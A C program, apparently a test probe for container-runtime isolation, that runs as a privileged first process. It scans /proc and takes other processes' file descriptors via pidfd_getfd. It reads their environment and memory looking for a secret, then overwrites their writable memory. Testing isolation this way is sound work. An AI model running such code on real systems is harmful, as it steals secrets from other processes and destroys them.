/*
 * A hostile first process with CAP_SYS_PTRACE: takes hold of every other process it sees, over and over, by every way there
 * is, and tells what of the host's it found. Each process it sees it also damages.
 *
 *   tracer SECRET     SECRET: text that stands in the runtime's environment only
 *
 * One line each, once: `secret HOW` the text was found; `fd LINK` a descriptor taken or seen; `cwd LINK`, `root LINK`;
 * `wrote HOW`; `caps HEX` permitted capabilities; `saw` a process at all.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define CHUNK (1 << 20)

static char told[256][300], buffer[CHUNK];
static int count;
static const char *secret;

static void tell(const char *what, const char *text) {
    char line[300];
    snprintf(line, sizeof line, "%s %s", what, text);
    for (int i = 0; i < count; i++)
        if (strcmp(told[i], line) == 0) return;
    if (count == 256) return;
    strcpy(told[count++], line);
    puts(line);
    fflush(stdout);
}

static void search(const char *how, ssize_t n) {
    if (n > 0 && memmem(buffer, (size_t)n, secret, strlen(secret))) tell("secret", how);
}

static void link_of(int pid, const char *what, const char *name) {
    char path[400], target[256];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    ssize_t n = readlink(path, target, sizeof target - 1);
    if (n < 0) return;
    target[n] = 0;
    tell(what, target);
}

static void descriptors(int pid) {
    char name[64], target[256];
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    for (int fd = 3; fd < 64; fd++) {
        snprintf(name, sizeof name, "fd/%d", fd);
        link_of(pid, "fd", name);
        int taken = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
        if (taken < 0) continue;
        snprintf(name, sizeof name, "/proc/self/fd/%d", taken);
        ssize_t n = readlink(name, target, sizeof target - 1);
        if (n > 0) {
            target[n] = 0;
            tell("fd", target);
        }
        close(taken);
    }
    if (pidfd >= 0) close(pidfd);
}

/* Reads what is written in it, then spoils it. */
static void memory(int pid) {
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    int fd = open(path, O_RDONLY);
    if (fd >= 0) {
        search("environ", read(fd, buffer, CHUNK));
        close(fd);
    }
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = open(path, O_RDWR);
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    while (maps && fgets(line, sizeof line, maps)) {
        unsigned long from, to;
        char rights[8];
        if (sscanf(line, "%lx-%lx %7s", &from, &to, rights) != 3 || rights[0] != 'r') continue;
        size_t length = to - from > CHUNK ? CHUNK : to - from;
        unsigned long start = strstr(line, "[stack]") ? to - length : from;
        struct iovec mine = { buffer, length }, theirs = { (void *)start, length };
        if (mem >= 0) search("mem", pread(mem, buffer, length, (off_t)start));
        search("process_vm_readv", process_vm_readv(pid, &mine, 1, &theirs, 1, 0));
        if (rights[1] != 'w') continue;
        memset(buffer, 0xcc, length);
        if (process_vm_writev(pid, &mine, 1, &theirs, 1, 0) > 0) tell("wrote", "process_vm_writev");
        if (mem >= 0 && pwrite(mem, buffer, length, (off_t)start) > 0) tell("wrote", "mem");
    }
    if (maps) fclose(maps);
    if (mem >= 0) close(mem);
}

static void rights(int pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return;
    ssize_t n = read(fd, buffer, CHUNK - 1);
    close(fd);
    if (n <= 0) return;
    buffer[n] = 0;
    char *caps = strstr(buffer, "CapPrm:\t"), *end = caps ? strchr(caps, '\n') : 0;
    if (!end) return;
    *end = 0;
    tell("caps", caps + 8);
}

int main(int argc, char **argv) {
    if (argc != 2) return 96;
    secret = argv[1];
    puts("watching");
    fflush(stdout);
    for (int own = getpid();;) {
        DIR *processes = opendir("/proc");
        struct dirent *entry;
        while (processes && (entry = readdir(processes))) {
            int pid = atoi(entry->d_name);
            if (pid < 2 || pid == own) continue;
            tell("saw", "a process");
            rights(pid);
            link_of(pid, "cwd", "cwd");
            link_of(pid, "root", "root");
            descriptors(pid);
            memory(pid);
        }
        if (processes) closedir(processes);
        while (waitpid(-1, 0, WNOHANG | __WALL) > 0) {}
    }
}
